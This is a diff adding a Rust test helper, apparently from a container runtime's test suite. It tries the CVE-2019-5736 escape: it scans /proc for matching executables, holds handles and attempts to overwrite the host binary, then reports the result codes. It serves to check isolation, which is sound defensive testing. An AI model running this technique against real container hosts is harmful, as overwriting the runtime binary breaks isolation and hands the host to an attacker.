@@ -1,0 +1,57 @@
+//! What tests execute inside a container: a hostile command, which tells on one line how far it came.
+
+#![forbid(unsafe_code)]
+
+use std::collections::BTreeMap;
+use std::os::fd::{AsRawFd, OwnedFd};
+
+use rustix::event::{PollFd, PollFlags, Timespec, poll};
+use rustix::fs::{Mode, OFlags, fstat, open};
+use rustix::io::write;
+
+fn main() {
+    let words: Vec<String> = std::env::args().skip(1).collect();
+    let words: Vec<&str> = words.iter().map(String::as_str).collect();
+    match words[..] {
+        ["overwrite", size] => overwrite(size.parse().expect("a number")),
+        _ => panic!("not a thing to try: {words:?}"),
+    }
+}
+
+/// CVE-2019-5736: looks at every process that there is for a file of `size` bytes behind /proc/PID/exe, keeps a handle of
+/// it, and tries to write to it, at once and again when standard input has ended, and with it the processes.
+fn overwrite(size: i64) {
+    let mut handles: Vec<OwnedFd> = Vec::new();
+    let mut answers: BTreeMap<String, u32> = BTreeMap::new();
+    let mut attempt = |path: &str| {
+        let opened = open(path, OFlags::RDWR | OFlags::CLOEXEC, Mode::empty());
+        let told = match opened.and_then(|file| write(file, b"overwritten")) {
+            Ok(_) => "written".to_owned(),
+            Err(errno) => errno.raw_os_error().to_string(),
+        };
+        *answers.entry(told).or_default() += 1;
+    };
+    println!("looking");
+    while !input_ended() {
+        for pid in std::fs::read_dir("/proc").expect("a procfs").flatten().map(|entry| entry.file_name()) {
+            let exe = format!("/proc/{}/exe", pid.to_string_lossy());
+            let Ok(handle) = open(&*exe, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()) else { continue };
+            if fstat(&handle).is_ok_and(|stat| stat.st_size == size) {
+                attempt(&exe);
+                if handles.len() < 64 {
+                    handles.push(handle);
+                }
+            }
+        }
+    }
+    for handle in &handles {
+        attempt(&format!("/proc/self/fd/{}", handle.as_raw_fd()));
+    }
+    println!("seen {} answers {answers:?}", handles.len());
+}
+
+fn input_ended() -> bool {
+    let input = rustix::stdio::stdin();
+    let mut polled = [PollFd::new(&input, PollFlags::IN)];
+    poll(&mut polled, Some(&Timespec::default())).is_ok_and(|count| count > 0)
+}
